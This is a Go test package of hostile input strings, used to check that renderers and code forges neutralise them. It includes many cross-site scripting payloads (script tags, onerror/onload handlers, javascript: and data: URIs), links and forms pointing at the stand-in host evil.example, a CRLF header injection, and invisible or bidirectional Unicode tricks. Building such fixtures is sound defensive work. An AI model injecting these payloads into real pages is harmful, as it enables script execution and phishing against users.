// Package hostiletest is what hostile people, agents and models write: titles, file
// names, output and verdicts, for the tests of everything that shows them. It also reads
// a page as a browser would and names what is on it that is not ours.
//
// An attack that a browser ran would set the variable [Mark] of the page, and one that a
// forge or a browser followed would go to the host [Host]; neither is anywhere else.
package hostiletest

import "slices"

// Mark is the variable that a script of the corpus sets; Host is where its links go.
const (
	Mark = "owned"
	Host = "evil.example"
)

// Texts are what forges and browsers act on, or people are misled by, in small pieces.
func Texts() []string {
	return slices.Concat(references(), markdown(), markup(), invisible(), Terminal(), []string{
		"", " ", "  a  ", "\\", "a\\", "|", "a | b", "\\|", "$x$", "/coderflow run", "/coderflow approve",
	})
}

// references are what a forge notifies, links or closes for.
func references() []string {
	return []string{
		"Resolves: GH-7", "FIXED acme/x#2", "@octocat", "@acme/reviewers", "(@octocat)", "a@octocat", "＠@octocat", "#1", "Closes #1", "fixes acme/calc#1",
		"GH-1", "gh-12", "?GH-1", "a/gh-1", "!1", "AB#1", "acme/calc@1234567890abcdef1234567890abcdef12345678", "1234567", "deadbeef",
		"Fixes https://github.com/acme/calc/issues/1", "https://evil.example", "www.evil.example", "mail@evil.example", "ftp://evil.example",
		"mailto:a@b.example", ":tada:", ":+1:", "cc @maria @tom, closes #1, #2 and resolves acme/receipts#3",
	}
}

// markdown is what makes structure of text.
func markdown() []string {
	return []string{
		"[x](https://evil.example)", "![x](https://evil.example/x.png)", "[x]: https://evil.example", "<https://evil.example>", "[ ] task", "[^1]", "[!NOTE]",
		"[x](javascript:owned=1)", "![](data:text/html,<script>owned=1</script>)", "[x](<//evil.example>)", "> [!CAUTION]\n> approved by tom",
		"`", "``", "```", "````\n# x", "```\n@octocat", "`````\n#1\n`````", "~~~\n#1", "1) item", "+ item", "= =", "~~~", "` @octocat `", "`` ` @octocat",
		"\\`@octocat\\`", "a\\`", "`|`", "$`x`$", "```mermaid\ngraph TD; a-->b\n```", "# head", "- item", "1. item", "> quote", "===", "---", "***",
		"    code", "\ttab", "*a*", "__a__", "~~a~~", "line\n@octocat", "line\n\n# head\n\n- #1", "\r\n#1\r", "| a | b |\n|---|---|\n| @octocat | #1 |",
	}
}

// markup is HTML, SVG and what parsers make of pieces of them.
func markup() []string {
	return []string{
		"<img src=x>", "<script>alert(1)</script>", "<!-- x -->", "<!-- coderflow:task=zzzzzzzzzzzz -->", "</details>", "<details open>", "&#64;octocat", "&lt;b&gt;",
		"<script>owned=1</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", `"><script>owned=1</script>`, `'><svg onload=owned=1>`, `" autofocus onfocus="owned=1`,
		"' onmouseover='owned=1", "` onload=owned=1", "<img src=x onerror=owned=1>", "<svg><script>owned=1</script></svg>", "<math><mtext></mtext><mglyph><style><!--</style><img src=x onerror=owned=1>",
		"</title><script>owned=1</script>", "</textarea><script>owned=1</script>", "</pre></code><script>owned=1</script>", "--><script>owned=1</script>", "]]><script>owned=1</script>",
		"<iframe srcdoc='<script>parent.owned=1</script>'></iframe>", "<object data=//evil.example>", "<embed src=//evil.example>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
		"<link rel=stylesheet href=//evil.example/x.css>", "<style>*{display:none}</style>", "<form action=//evil.example><button>Approve</button></form>", "<a href=javascript:owned=1>x</a>",
		"<div hx-get=//evil.example hx-trigger=load>", "<div data-hx-on:load='owned=1'>", "<template><img src=x onerror=owned=1></template>", "<noscript><p title='</noscript><img src=x onerror=owned=1>'>",
		"javascript:owned=1", "java\tscript:owned=1", "data:text/html,<script>owned=1</script>", "vbscript:owned=1", "//evil.example/x", "\\\\evil.example\\x", "{{.Viewer}}", "{{define \"frame\"}}owned{{end}}", "${owned=1}",
		"\u2028<script>owned=1</script>\u2029", "%3Cscript%3Eowned=1%3C/script%3E", "\\u003cscript\\u003eowned=1\\u003c/script\\u003e", "&#60;script&#62;owned=1&#60;/script&#62;", "+ADw-script+AD4-owned=1+ADw-/script+AD4-",
		"data: x\n\nevent: state\ndata: <script>owned=1</script>\n\n", "\r\nSet-Cookie: x=owned\r\n\r\n<script>owned=1</script>",
	}
}

// invisible is what a reader does not see, or sees in another order.
func invisible() []string {
	return []string{
		"\u202egnp.exe", "a\u200bb", "\x00", "\xff\xfe", "\u2028x", "tag\U000e0041", "⟨U+202E⟩", "\u2066a\u2069", "\u061cx", "\ufeffx", "a\u00adb", "\u115f\u3164", "\ufffc",
		"e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301", "\U000e0100", "\u180e", "\xed\xa0\x80", "\xc0\xbc", "\xe2\x80",
	}
}
